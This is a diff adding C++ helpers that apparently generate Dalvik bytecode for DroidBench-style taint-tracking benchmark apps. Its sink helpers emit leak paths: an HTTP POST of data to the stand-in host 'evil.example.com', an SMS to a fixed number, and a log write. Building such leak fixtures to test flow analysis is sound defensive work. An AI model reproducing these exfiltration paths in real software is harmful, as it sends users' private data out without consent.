@@ -1,0 +1,70 @@
+#include "droidbench/helpers.hh"
+
+namespace pift::droidbench
+{
+
+using dalvik::MethodBuilder;
+
+void
+emitCooldown(MethodBuilder &b, int iters, const std::string &tag)
+{
+    // v0 = iters; while (v0 != 0) { v1 = v1 + v0; v0-- }
+    b.const16(0, static_cast<int16_t>(iters));
+    b.const4(1, 0);
+    b.label(tag + "_loop");
+    b.ifEqz(0, tag + "_done");
+    b.binop2addr(dalvik::Bc::AddInt2Addr, 1, 0);
+    b.addIntLit8(0, 0, -1);
+    b.gotoLabel(tag + "_loop");
+    b.label(tag + "_done");
+}
+
+void
+emitSource(MethodBuilder &b, dalvik::MethodId source, uint8_t dst)
+{
+    b.invokeStatic(source, 0, 0);
+    b.moveResultObject(dst);
+}
+
+void
+emitSms(AppContext &ctx, MethodBuilder &b, uint8_t msg_reg)
+{
+    b.constString(0, ctx.dex.addString("+15559876543"));
+    b.moveObject(1, msg_reg);
+    b.invokeStatic(ctx.env.send_text_message, 2, 0);
+}
+
+void
+emitHttp(AppContext &ctx, MethodBuilder &b, uint8_t body_reg)
+{
+    b.constString(0, ctx.dex.addString("http://evil.example.com/up"));
+    b.moveObject(1, body_reg);
+    b.invokeStatic(ctx.env.http_post, 2, 0);
+}
+
+void
+emitLog(AppContext &ctx, MethodBuilder &b, uint8_t msg_reg)
+{
+    b.constString(0, ctx.dex.addString("APP"));
+    b.moveObject(1, msg_reg);
+    b.invokeStatic(ctx.env.log_d, 2, 0);
+}
+
+void
+emitConcat(AppContext &ctx, MethodBuilder &b, uint8_t dst, uint8_t a,
+           uint8_t bq)
+{
+    b.moveObject(0, a);
+    b.moveObject(1, bq);
+    b.invokeStatic(ctx.lib.string_concat, 2, 0);
+    b.moveResultObject(dst);
+}
+
+void
+emitConst(AppContext &ctx, MethodBuilder &b, uint8_t dst,
+          const std::string &text)
+{
+    b.constString(dst, ctx.dex.addString(text));
+}
+
+} // namespace pift::droidbench
